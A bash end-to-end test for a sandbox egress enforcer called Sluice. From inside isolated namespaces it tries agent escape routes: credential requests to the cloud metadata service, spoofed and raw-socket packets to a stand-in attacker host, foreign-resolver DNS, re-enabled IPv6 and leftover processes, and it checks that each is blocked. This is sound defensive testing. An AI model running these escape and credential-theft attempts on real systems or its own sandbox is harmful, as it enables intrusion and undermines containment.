#!/bin/bash
# t_enforce.sh: kernel enforcement of sandbox egress, end to end.
#
# Sluice's promise is that a sandbox reaches exactly what its policy allows
# and nothing else, however hostile the code inside is: root in its own
# namespace, with raw and packet sockets, free to add addresses, re-enable
# IPv6 or talk to any resolver, and whether or not sluiced is alive. Each
# assertion below is one way an agent could get out (egress.md §8-9), tried
# from inside sandboxes that the real daemon made in the world of world.sh,
# and proved by what the far side saw (server logs, the attacker's log, the
# resolver's log, a listener, packet counters in the internet namespace) as
# well as by the client's failure. Three sandboxes share one world: A and B
# (policies/enf-a.yaml, enf-b.yaml) with different allowances, and O
# (enf-open.yaml), whose CIDR allows cover every always-denied class. The
# end checks removal, SIGKILL of sluiced (fail closed) and adoption on
# restart. The raw sender and the listener are tools/enfnet.c, compiled here.
. "$(dirname "$0")/lib.sh"
. "$E2E_DIR/world.sh"
require_root

for t in cc jq nft ping; do
	command -v "$t" >/dev/null || { not_ok "$t is installed"; finish; }
done
ENFNET=$E2E_TMP/enfnet
if ! cc -std=c17 -D_GNU_SOURCE -Wall -Wextra -Werror -O1 -o "$ENFNET" \
    "$E2E_DIR/tools/enfnet.c"; then
	not_ok "tools/enfnet.c compiles"
	finish
fi

world_up || { not_ok "world_up"; finish; }
POL=$E2E_TMP/policies
mkdir -p "$POL"
cp "$E2E_DIR"/policies/enf-*.yaml "$POL"/
world_sluiced_config "$E2E_TMP/sluice.yaml" "$POL"
world_start_sluiced "$E2E_TMP/sluice.yaml" || { not_ok "sluiced starts"; finish; }

sl() { world_host "$SLUICE" -s "$WORLD_SOCK" "$@"; }
# Ids are machine-wide (/run/netns/sluice-<id>): the pid keeps runs apart.
A=enf$$-a
B=enf$$-b
O=enf$$-o
C=enf$$-c

# mk ID POLICY: create a sandbox through the CLI; its JSON in $E2E_TMP/ID.json.
mk() {
	sl sandbox create --policy "$2" --id "$1" >"$E2E_TMP/$1.json" &&
	    test "$(jq -r .id "$E2E_TMP/$1.json")" = "$1"
}
# addr ID: the sandbox's own IPv4 address, from the create answer.
addr() { jq -r .address "$E2E_TMP/$1.json" | cut -d/ -f1; }
# hostif ID: the host side of the sandbox's veth, found from the kernel
# (the link whose peer lives in sluice-ID), not from what sluiced says.
hostif() {
	ip -n "$WORLD_HOST_NS" -o -d link show 2>/dev/null |
	    awk -v ns="sluice-$1" '$0 ~ "link-netns " ns "( |$)" {
		sub(/@.*/, "", $2); sub(/:$/, "", $2); print $2; exit }'
}
# sbx ID CMD...: CMD inside sandbox ID (network namespace only).
sbx() { world_sandbox "$@"; }
# get ID URL: an HTTP GET from inside sandbox ID (3 s bound; a policy
# denial is an immediate reset or ICMP error, so it never takes that long).
get() { local id=$1; shift; sbx "$id" curl -s -g -m 3 "$@"; }
# tcp_open ID HOST PORT: a bare TCP connect from inside ID (3 s bound).
tcp_open() {
	sbx "$1" timeout 3 bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null
}
# udp_send ID HOST PORT DATA: one datagram from inside ID.
udp_send() {
	sbx "$1" bash -c "printf '%s' '$4' >/dev/udp/$2/$3" 2>/dev/null
	return 0
}
# elems IFNAME: how many strings in the whole `inet sluice` table name the
# link or its quota object (every set element, map entry and quota of a
# sandbox is keyed on its ifname).
elems() {
	world_host nft -j list table inet sluice 2>/dev/null |
	    jq --arg i "$1" '[.. | strings | select(. == $i or . == "q_" + $i)] | length'
}
# sets_dump: every set's elements and every quota object, normalised, for
# "nothing changed" comparisons (without the countdown of timeouts, and
# without the log meter, which each denial touches).
sets_dump() {
	world_host nft -j list table inet sluice 2>/dev/null |
	    jq -S -c '[.nftables[] | select(.set or .map or .quota) |
		(.set // .map // .quota) | select(.name != "logmeter") |
		{name, elem: (.elem // null)}] |
		walk(if type == "object" then del(.expires) else . end)'
}
ls_ids() {
	sl sandbox ls --json 2>/dev/null |
	    jq -r '(if type == "object" then (.sandboxes // []) else . end)[] | .id' |
	    sort | tr '\n' ' ' | sed 's/ $//'
}

# Packet counters in the internet namespace (the world's own throwaway
# namespace, never the machine's): what arrives over the uplink, before any
# socket, so that a lone SYN or an ICMP echo that got through is seen even
# though no server logs it.
world_inet nft -f - <<EOF || not_ok "counters in inet"
table inet enfcnt {
	counter c_icmp {}
	counter c_syn22 {}
	counter c_pkg80 {}
	counter c_udp9999 {}
	counter c_udpother {}
	counter c_dot {}
	counter c_anyv6 {}
	counter c_meta {}
	counter c_unmasq {}
	chain pre {
		type filter hook prerouting priority -300; policy accept;
		iifname "inet0" meta l4proto icmp counter name c_icmp
		iifname "inet0" ip daddr $WORLD_ATTACKER tcp dport 22 counter name c_syn22
		iifname "inet0" ip daddr $WORLD_PKG tcp dport 80 counter name c_pkg80
		iifname "inet0" ip daddr $WORLD_ATTACKER udp dport 9999 counter name c_udp9999
		iifname "inet0" ip daddr $WORLD_ATTACKER udp dport != 9999 counter name c_udpother
		iifname "inet0" th dport 853 counter name c_dot
		iifname "inet0" meta nfproto ipv6 meta l4proto != icmpv6 counter name c_anyv6
		iifname "inet0" ip daddr 169.254.0.0/16 counter name c_meta
		iifname "inet0" ip6 daddr fd00:ec2::/32 counter name c_meta
		iifname "inet0" ip saddr $WORLD_POOL counter name c_unmasq
	}
}
EOF
cnt() {
	world_inet nft -j list counter inet enfcnt "c_$1" 2>/dev/null |
	    jq '.nftables[] | select(.counter) | .counter.packets'
}

# ------------------------------------------------------------- sandboxes
check "sandbox A (enf-a) is created" mk "$A" enf-a
check "sandbox B (enf-b) is created" mk "$B" enf-b
check "sandbox O (enf-open) is created" mk "$O" enf-open
AA=$(addr "$A"); BA=$(addr "$B")
AIF=$(hostif "$A"); BIF=$(hostif "$B")
check_match "A has a pool address" '^10\.231\.' "$AA"
check_match "A's host link is an sl- link" '^sl-' "$AIF"
if [ -z "$AIF" ] || [ -z "$BIF" ] || [ -z "$AA" ] || [ -z "$BA" ] ||
    [ "$AA" = null ] || [ "$BA" = null ]; then
	not_ok "sandboxes usable (A=$AA/$AIF B=$BA/$BIF)"
	world_sluiced_log | tail -n 20 | sed 's/^/#   /'
	finish
fi
AMAC=$(ip -n "$WORLD_HOST_NS" -j link show "$AIF" | jq -r '.[0].address')

# ------------------------------------------------- allowed CIDR and port
world_log_clear pkg
check_eq "A reaches its allowed CIDR:port (192.0.2.10:80)" "package index" \
    "$(get "$A" "http://$WORLD_PKG/")"
check_eq "A's traffic leaves masqueraded (the server sees the uplink)" \
    "$WORLD_HOST_V4" "$(get "$A" "http://$WORLD_PKG/ip")"
check_match "the package index logged A's request" '"path":"/"' \
    "$(world_log pkg)"
check_fails "A: the same address on another port (443) is blocked" \
    get "$A" "http://$WORLD_PKG:443/"
world_log_clear nodns
check_fails "A: another address (192.0.2.11:80) is blocked" \
    get "$A" "http://$WORLD_NODNS/"
check_fails "A: a web server outside the policy (203.0.113.80) is blocked" \
    get "$A" "http://$WORLD_WEB/"
check_eq "port 443 of the index saw nothing" "" \
    "$(world_log pkg | grep '"dport":443')"
check_eq "192.0.2.11 saw nothing" "" "$(world_log nodns)"

# ----------------------------------------------------------- metadata
world_log_clear metadata
meta_url=/latest/meta-data/iam/security-credentials/demo
for id in "$A" "$O"; do
	check_fails "$id: metadata over IPv4 (169.254.169.254) is blocked" \
	    get "$id" "http://$WORLD_META$meta_url"
	check_fails "$id: metadata over the IPv4-mapped form is blocked" \
	    get "$id" "http://[::ffff:$WORLD_META]$meta_url"
	check_fails "$id: metadata over IPv6 (fd00:ec2::254) is blocked" \
	    get "$id" "http://[$WORLD_META6]$meta_url"
	check_fails "$id: IMDSv2 token PUT is blocked" \
	    get "$id" -X PUT "http://$WORLD_META/latest/api/token"
done
check_fails "O: ICMP allowed by policy still cannot ping the metadata address" \
    sbx "$O" ping -n -q -c 1 -W 2 "$WORLD_META"
# The open policy's other allows work, so the denials above are the
# always-deny classes at work, not a broken sandbox.
check_eq "O (0.0.0.0/0 allowed) reaches a public web server" \
    "web.example.org" "$(get "$O" "http://$WORLD_WEB/")"
check_eq "the metadata service saw nothing" "" "$(world_log metadata)"
# Each denial reaches sluiced through nflog as a net.deny event naming the
# sandbox and the 5-tuple (aggregated per second, so the wait is bounded).
check "A's metadata attempt is reported as net.deny with its sandbox id" \
    wait_for 10 grep -qE "net\.deny sandbox=$A .*dst=$WORLD_META .*dport=80 " \
    "$WORLD_DIR/log/sluiced.log"

# ------------------------------------------------- the host and the service
# Listeners on every address of the host namespace (0.0.0.0), on ports a
# sandbox might try: so a refused probe below is the rules' doing, not a
# closed port, and anything that got through is written down.
LPORTS=(22 80 8081 22222)
for p in "${LPORTS[@]}"; do
	nsenter --net="/run/netns/$WORLD_HOST_NS" -- \
	    "$ENFNET" listen 0.0.0.0 "$p" "$E2E_TMP/listen.$p" 120 &
	cleanup_push "kill -KILL $!"
done
for p in "${LPORTS[@]}"; do
	wait_for 10 test -e "$E2E_TMP/listen.$p.ready" ||
	    not_ok "host listener on $p starts"
	check "control: the host listener on $p answers in the host namespace" \
	    world_host timeout 3 bash -c "exec 3<>/dev/tcp/127.0.0.1/$p"
done
# hostaddr ID: the host side of ID's veth (its gateway).
hostaddr() {
	ip -n "$WORLD_HOST_NS" -j addr show "$(hostif "$1")" |
	    jq -r '.[0].addr_info[] | select(.family == "inet") | .local'
}
: >"$E2E_TMP/probe.out"
AHOST=$(hostaddr "$A")
probes=()
for id in "$A" "$O"; do
	gw=$(hostaddr "$id")
	for hp in "$WORLD_SERVICE:22222" "$WORLD_SERVICE:22" "$WORLD_SERVICE:8081" \
	    "$WORLD_SERVICE:80" "$gw:22" "$gw:80" "$gw:22222" \
	    "$gw:$WORLD_BRIDGE_PORT" "$AHOST:22222" "$WORLD_HOST_V4:22" \
	    "$WORLD_HOST_V4:22222" "$WORLD_HOST_V4:$WORLD_BRIDGE_PORT"; do
		# In parallel: each refused probe waits out its 3 s bound.
		( tcp_open "$id" "${hp%:*}" "${hp#*:}" &&
		    echo "$id $hp" >>"$E2E_TMP/probe.out" ) &
		probes+=("$!")
	done
done
wait "${probes[@]}"
check_eq "no host address or other service port is reachable from A or O" \
    "" "$(sort "$E2E_TMP/probe.out" | tr '\n' ' ')"
check_eq "the host listeners accepted nothing but the controls" \
    "${#LPORTS[@]}" "$(cat "$E2E_TMP"/listen.[0-9]* | grep -c '^accept')"

# -------------------------------------------------------- spoofed source
world_attacker_clear
check "control: A's own datagram to its allowed UDP sink is sent" \
    sbx "$A" "$ENFNET" udp "$AA" "$WORLD_ATTACKER" 9999 "enf-own-$$"
check "A adds B's address to its eth0 (root in its namespace)" \
    sbx "$A" ip addr add "$BA/32" dev eth0
check "a datagram from B's address leaves A's namespace" \
    sbx "$A" "$ENFNET" udp "$BA" "$WORLD_ATTACKER" 9999 "enf-spoof-$$"
check "A sends a spoofed raw packet too" \
    sbx "$A" "$ENFNET" raw "$BA" "$WORLD_ATTACKER" udp 9999 "enf-spoofraw-$$"
sbx "$A" ip addr del "$BA/32" dev eth0
check "attacker sync" world_attacker_sync
log=$(world_attacker_log)
check_match "control: A's own datagram arrived" "enf-own-$$" "$log"
check_fails "the spoofed datagram (B's address from A's link) was dropped" \
    grep -q "enf-spoof" <<<"$log"

# ------------------------------------------------------------ raw sockets
world_attacker_clear
before_udp=$(cnt udp9999) before_other=$(cnt udpother) before_syn=$(cnt syn22)
check "control: a raw datagram to A's allowed sink is sent" \
    sbx "$A" "$ENFNET" raw "$AA" "$WORLD_ATTACKER" udp 9999 "enf-rawok-$$"
check "control: a packet-socket frame to A's allowed sink is sent" \
    sbx "$A" "$ENFNET" pkt eth0 "$AMAC" "$AA" "$WORLD_ATTACKER" udp 9999 "enf-pktok-$$"
for how in raw pkt; do
	if [ $how = raw ]; then pre=(raw "$AA"); else pre=(pkt eth0 "$AMAC" "$AA"); fi
	sbx "$A" "$ENFNET" "${pre[@]}" "$WORLD_ATTACKER" udp 443 "enf-$how-q-$$"
	sbx "$A" "$ENFNET" "${pre[@]}" "$WORLD_ATTACKER" udp 53 "enf-$how-d-$$"
	sbx "$A" "$ENFNET" "${pre[@]}" "$WORLD_ATTACKER" tcp 22 "enf-$how-s-$$"
	sbx "$A" "$ENFNET" "${pre[@]}" "$WORLD_ATTACKER" tcp 853 "enf-$how-t-$$"
	sbx "$A" "$ENFNET" "${pre[@]}" "$WORLD_META" tcp 80 "enf-$how-m-$$"
done
check "attacker sync" world_attacker_sync
log=$(world_attacker_log)
check_match "control: the raw datagram to the allowed sink arrived" "enf-rawok-$$" "$log"
check_match "control: the packet-socket frame to the allowed sink arrived" "enf-pktok-$$" "$log"
check_eq "the internet saw exactly the two allowed raw datagrams on 9999" \
    $((before_udp + 2)) "$(cnt udp9999)"
check_fails "raw and packet sockets: the attacker logged nothing else" \
    grep -qE "enf-(raw|pkt)-" <<<"$log"
check_eq "raw and packet sockets: no other UDP reached the internet" \
    "$before_other" "$(cnt udpother)"
check_eq "raw and packet sockets: no SYN to 198.51.100.66:22 reached the internet" \
    "$before_syn" "$(cnt syn22)"

# ------------------------------------------------------ ICMP, UDP, DoT
world_attacker_clear
before_icmp=$(cnt icmp) before_other=$(cnt udpother) before_dot=$(cnt dot)
check_fails "A: ICMP echo to an allowed address is blocked by default" \
    sbx "$A" ping -n -q -c 1 -W 2 "$WORLD_PKG"
check_fails "B: ICMP echo to the attacker is blocked by default" \
    sbx "$B" ping -n -q -c 1 -W 2 "$WORLD_ATTACKER"
check_eq "no ICMP reached the internet" "$before_icmp" "$(cnt icmp)"
check "control: O (ICMP allowed by its policy) pings the web server" \
    sbx "$O" ping -n -q -c 1 -W 2 "$WORLD_WEB"
udp_send "$A" "$WORLD_ATTACKER" 443 "enf-quic-$$"
udp_send "$B" "$WORLD_ATTACKER" 443 "enf-quicb-$$"
check_fails "DoT: A cannot connect to tcp/853" tcp_open "$A" "$WORLD_ATTACKER" 853
check_fails "DoT: O (every tcp port allowed) cannot connect to tcp/853" \
    tcp_open "$O" "$WORLD_ATTACKER" 853
udp_send "$O" "$WORLD_ATTACKER" 853 "enf-dotu-$$"
check_eq "control: O (every tcp port allowed) reaches the attacker on 80" \
    "received" "$(get "$O" "http://$WORLD_ATTACKER/")"
check "attacker sync" world_attacker_sync
log=$(world_attacker_log)
check_fails "UDP (QUIC, 443) from A and B is blocked by default" \
    grep -q "enf-quic" <<<"$log"
check_fails "the attacker logged no DoT (tcp or udp 853)" \
    grep -qE '"dport":853' <<<"$log"
check_eq "no DoT packet reached the internet" "$before_dot" "$(cnt dot)"

# --------------------------------------------- DNS to a foreign resolver
# A's policy allows no name but evil.example.net; web.example.org is
# denied, and the upstream would answer it with 203.0.113.80. A query to
# any resolver must land at Sluice's proxy: the upstream never sees it, and
# what comes back is Sluice's denial, never the upstream's address.
world_resolver_clear
out2=$(sbx "$A" dig +time=2 +tries=1 @"$WORLD_DNS2" web.example.org A)
out3=$(sbx "$A" dig +time=2 +tries=1 +tcp @"$WORLD_DNS2" web.example.org A)
out8=$(sbx "$A" dig +time=2 +tries=1 @8.8.8.8 web.example.org A)
rlog=$(world_resolver_log)
check_fails "the upstream resolver never saw A's query for web.example.org" \
    grep -q 'web\.example\.org' <<<"$rlog"
for v in out2 out3 out8; do
	check_fails "no upstream answer (203.0.113.80) came back ($v)" \
	    grep -q "$WORLD_WEB" <<<"${!v}"
done
check_match "dig @198.51.100.53 (udp) is answered by Sluice's proxy" \
    'status: (NXDOMAIN|REFUSED)' "$out2"
check_match "dig @198.51.100.53 (tcp) is answered by Sluice's proxy" \
    'status: (NXDOMAIN|REFUSED)' "$out3"
check_match "dig @8.8.8.8 (not in the world) is answered by Sluice's proxy" \
    'status: (NXDOMAIN|REFUSED)' "$out8"

# ------------------------------------------------------------ IPv6
check_fails "A has IPv6 disabled on eth0" \
    sbx "$A" sh -c 'ip -6 addr show dev eth0 | grep -q inet6'
world_log_clear web6
world_log_clear metadata
before6=$(cnt anyv6)
for id in "$A" "$O"; do
	check_fails "$id: curl -6 to web6 fails with IPv6 off" \
	    get "$id" "http://[$WORLD_WEB6]/"
	# Root in the sandbox turns IPv6 back on and gives itself an address,
	# a neighbour entry for the host side's MAC and a default route, so
	# that its IPv6 packets really reach the host link.
	mac=$(ip -n "$WORLD_HOST_NS" -j link show "$(hostif "$id")" | jq -r '.[0].address')
	check "$id: root re-enables IPv6 inside" sbx "$id" sh -c "
	    sysctl -qw net.ipv6.conf.all.disable_ipv6=0 &&
	    sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0 &&
	    sysctl -qw net.ipv6.conf.eth0.accept_dad=0 &&
	    ip -6 addr add 2001:db8:ffff::99/64 dev eth0 nodad &&
	    ip -6 neigh replace fe80::1 lladdr $mac dev eth0 nud permanent &&
	    ip -6 route replace default via fe80::1 dev eth0"
	check_match "control: $id routes IPv6 to web6 out of eth0 now" \
	    "dev eth0" "$(sbx "$id" ip -6 route get "$WORLD_WEB6" 2>&1)"
	check_fails "$id: web6 (2001:db8:1::10) unreachable over re-enabled IPv6" \
	    get "$id" "http://[$WORLD_WEB6]/"
	check_fails "$id: metadata fd00:ec2::254 unreachable over re-enabled IPv6" \
	    get "$id" "http://[$WORLD_META6]$meta_url"
	check_fails "$id: the internet's gateway 2001:db8:ffff::fe unreachable" \
	    get "$id" "http://[2001:db8:ffff::fe]/"
	check_fails "$id: the host's uplink 2001:db8:ffff::1 does not answer ping" \
	    sbx "$id" ping -6 -n -q -c 1 -W 2 2001:db8:ffff::1
	check_fails "$id: ICMPv6 echo to web6 fails" \
	    sbx "$id" ping -6 -n -q -c 1 -W 2 "$WORLD_WEB6"
done
check_eq "web6 saw nothing" "" "$(world_log web6)"
check_eq "the metadata service saw nothing over IPv6" "" "$(world_log metadata)"
check_eq "no IPv6 TCP/UDP packet from a sandbox reached the internet" \
    "$before6" "$(cnt anyv6)"

# --------------------------------------------- two sandboxes, two policies
LA=$E2E_TMP/listen-a.log LB=$E2E_TMP/listen-b.log
nsenter --net="/run/netns/sluice-$A" -- "$ENFNET" listen 0.0.0.0 8000 "$LA" 120 &
cleanup_push "kill -KILL $!"
nsenter --net="/run/netns/sluice-$B" -- "$ENFNET" listen 0.0.0.0 8000 "$LB" 120 &
cleanup_push "kill -KILL $!"
if ! wait_for 10 test -e "$LA.ready" || ! wait_for 10 test -e "$LB.ready"; then
	not_ok "sandbox listeners start"
fi
check "control: A's listener answers inside A" tcp_open "$A" 127.0.0.1 8000
check "control: B's listener answers inside B" tcp_open "$B" 127.0.0.1 8000
check_fails "A cannot reach B's address ($BA:8000)" tcp_open "$A" "$BA" 8000
check_fails "B cannot reach A's address ($AA:8000)" tcp_open "$B" "$AA" 8000
check_fails "O (10.0.0.0/8 allowed) cannot reach A's address" \
    tcp_open "$O" "$AA" 8000
check_fails "A cannot ping B" sbx "$A" ping -n -q -c 1 -W 2 "$BA"
check_eq "A's listener accepted only its control" 1 "$(grep -c '^accept' "$LA")"
check_eq "B's listener accepted only its control" 1 "$(grep -c '^accept' "$LB")"
check_eq "B reaches its own allowance (203.0.113.80:80)" "web.example.org" \
    "$(get "$B" "http://$WORLD_WEB/")"
check_fails "A cannot reach B's allowance (203.0.113.80:80)" \
    get "$A" "http://$WORLD_WEB/"
before_pkg=$(cnt pkg80)
check_fails "B cannot reach A's allowance (192.0.2.10:80)" \
    get "$B" "http://$WORLD_PKG/"
check_eq "B's attempt never reached the internet" "$before_pkg" "$(cnt pkg80)"
check_eq "A still reaches its own allowance" "package index" \
    "$(get "$A" "http://$WORLD_PKG/")"

# ------------------------------------------------------------- removal
check "sandbox C (enf-a) is created" mk "$C" enf-a
CIF=$(hostif "$C")
CGW=$(hostaddr "$C")
check_match "C's host link is an sl- link" '^sl-' "$CIF"
n=$(elems "$CIF")
check "control: the table holds C's elements before removal ($n)" test "${n:-0}" -gt 0
check_eq "control: C reaches its allowance" "package index" \
    "$(get "$C" "http://$WORLD_PKG/")"
# A process still running inside C when it is removed (sluice does not own
# the sandbox's processes) must be cut off, not left with a path out.
nsenter --net="/run/netns/sluice-$C" -- sleep 120 &
CPID=$!
cleanup_push "kill -KILL $CPID"
# Only once it is really in C's namespace may we join it (before its setns
# it is in ours, and nothing here may send from there).
in_ns() { test "$(readlink "/proc/$1/ns/net")" = "$2"; }
cns="net:[$(stat -L -c %i "/run/netns/sluice-$C")]"
if ! wait_for 10 in_ns "$CPID" "$cns"; then
	not_ok "a process runs inside C"
	finish
fi
check "control: a process inside C reaches C's allowance" \
    nsenter -t "$CPID" -n curl -s -m 3 -o /dev/null "http://$WORLD_PKG/"
check "sluice sandbox rm C" sl sandbox rm "$C"
check_fails "no namespace pin /run/netns/sluice-$C" test -e "/run/netns/sluice-$C"
check_fails "no /etc/netns/sluice-$C" test -e "/etc/netns/sluice-$C"
check_fails "no link $CIF in the host namespace" \
    ip -n "$WORLD_HOST_NS" link show "$CIF"
check_eq "no host link has C's namespace as its peer" "" "$(hostif "$C")"
check_fails "the process left inside C is cut off" \
    nsenter -t "$CPID" -n curl -s -m 3 -o /dev/null "http://$WORLD_PKG/"
check_fails "and stays cut off when root inside re-enables eth0" \
    nsenter -t "$CPID" -n sh -c "ip link set eth0 down; ip link set eth0 up;
	ip route replace default via $CGW dev eth0 onlink;
	curl -s -m 3 -o /dev/null http://$WORLD_PKG/"
{ kill -KILL "$CPID"; wait "$CPID"; } 2>/dev/null
# The retired host link (sg-*) lives as long as something holds C's
# namespace; once the last process is gone it must go, bounded.
check "no retired sg- link is left" wait_for 10 bash -c \
    "! ip -n '$WORLD_HOST_NS' -o link show | grep -q ': sg-'"
check_eq "zero elements for $CIF in every set, map and quota" 0 "$(elems "$CIF")"
check_fails "sandbox ls no longer lists C" grep -qw "$C" <<<"$(ls_ids)"
check_eq "A, B and O are untouched" "$(printf '%s\n' "$A" "$B" "$O" | sort | tr '\n' ' ' | sed 's/ $//')" \
    "$(ls_ids)"

# ------------------------------------------------------- SIGKILL of sluiced
snap=$(sets_dump)
check "control: the table has sandbox elements" test "$(elems "$AIF")" -gt 0
SPID=$_WORLD_SLUICED_PID
kill -KILL "$SPID"
wait "$SPID" 2>/dev/null
_WORLD_SLUICED_PID=
check_fails "sluiced is dead" kill -0 "$SPID"
check "the table is still there" world_host nft list table inet sluice
check_eq "no element changed" "$snap" "$(sets_dump)"
check_eq "killed: A still reaches its allowance (kernel state)" "package index" \
    "$(get "$A" "http://$WORLD_PKG/")"
check_fails "killed: A still cannot reach 192.0.2.11" get "$A" "http://$WORLD_NODNS/"
check_fails "killed: A still cannot reach the metadata service" \
    get "$A" "http://$WORLD_META$meta_url"
check_fails "killed: O still cannot reach the metadata service" \
    get "$O" "http://$WORLD_META$meta_url"
check_fails "killed: A cannot reach B" tcp_open "$A" "$BA" 8000
check_fails "killed: DoT still blocked" tcp_open "$O" "$WORLD_ATTACKER" 853
world_attacker_clear
world_resolver_clear
check_fails "killed: A's resolver (the service address) does not answer" \
    sbx "$A" dig +time=2 +tries=1 @"$WORLD_SERVICE" evil.example.net A
check_fails "killed: a foreign resolver does not answer either" \
    sbx "$A" dig +time=2 +tries=1 @"$WORLD_DNS2" evil.example.net A
check_fails "killed: A's allowed name's address is not reachable (nothing learned)" \
    get "$A" "http://$WORLD_ATTACKER:8080/"
udp_send "$B" "$WORLD_ATTACKER" 443 "enf-killed-$$"
check "attacker sync" world_attacker_sync
check_eq "killed: the attacker saw nothing" "" "$(world_attacker_log)"
check_fails "killed: the upstream never saw evil.example.net" \
    grep -q 'evil\.example\.net' <<<"$(world_resolver_log)"
check_eq "killed: still no element changed" "$snap" "$(sets_dump)"

# ------------------------------------------------------------- restart
if world_start_sluiced "$E2E_TMP/sluice.yaml"; then
	ok "sluiced restarts"
	check_eq "restart: sandbox ls shows the live sandboxes" \
	    "$(printf '%s\n' "$A" "$B" "$O" | sort | tr '\n' ' ' | sed 's/ $//')" \
	    "$(ls_ids)"
	check_eq "restart: the sandboxes' elements are adopted unchanged" \
	    "$snap" "$(sets_dump)"
	check_eq "restart: A's host link is unchanged" "$AIF" "$(hostif "$A")"
	check_eq "restart: A reaches its allowance" "package index" \
	    "$(get "$A" "http://$WORLD_PKG/")"
	check_fails "restart: A still cannot reach 192.0.2.11" \
	    get "$A" "http://$WORLD_NODNS/"
	check_fails "restart: O still cannot reach the metadata service" \
	    get "$O" "http://$WORLD_META$meta_url"
	check_fails "restart: A still cannot reach B's allowance" \
	    get "$A" "http://$WORLD_WEB/"
	check_eq "restart: B reaches its allowance" "web.example.org" \
	    "$(get "$B" "http://$WORLD_WEB/")"
	check_eq "restart: sluice exec into A reaches A's allowance" "package index" \
	    "$(sl exec "$A" -- curl -s -m 3 "http://$WORLD_PKG/" 2>&1)"
	# shellcheck disable=SC2016 # expanded inside the sandbox
	out=$(sl exec "$A" -- sh -c 'echo "id=$SLUICE_SANDBOX_ID"; cat /etc/resolv.conf' 2>&1)
	check_match "restart: exec sets SLUICE_SANDBOX_ID" "^id=$A\$" "$out"
	check_match "restart: exec applies the sandbox's resolv.conf" \
	    "nameserver $WORLD_SERVICE" "$out"
	check_fails "restart: exec into A cannot reach B's allowance" \
	    sl exec "$A" -- curl -s -m 3 "http://$WORLD_WEB/"
	# Learning works again once the proxy is back: the negative of
	# "nothing learned" above was not an accident of the name or port.
	check_eq "restart: A's allowed name resolves through Sluice" \
	    "$WORLD_ATTACKER" \
	    "$(sbx "$A" dig +time=2 +tries=1 +short @"$WORLD_SERVICE" evil.example.net A)"
	check_eq "restart: and its address:port is now reachable from A" "received" \
	    "$(get "$A" "http://$WORLD_ATTACKER:8080/")"
	check_fails "restart: but not from B (per-sandbox sets)" \
	    get "$B" "http://$WORLD_ATTACKER:8080/"
	check "restart: sandbox rm still works on an adopted sandbox" sl sandbox rm "$B"
	check_fails "restart: B's namespace is gone" test -e "/run/netns/sluice-$B"
	check_eq "restart: zero elements left for B's link" 0 "$(elems "$BIF")"
else
	not_ok "sluiced restarts"
	world_sluiced_log | tail -n 20 | sed 's/^/#   /'
fi
# Over the whole run, from every sandbox and every trick above.
check_eq "no packet ever reached the metadata addresses from the host" 0 "$(cnt meta)"
check_eq "no packet ever left the host with a pool source address" 0 "$(cnt unmasq)"
check_fails "no sanitizer report in sluiced's log" \
    grep -qE 'AddressSanitizer|LeakSanitizer|runtime error' <<<"$(world_sluiced_log)"
finish
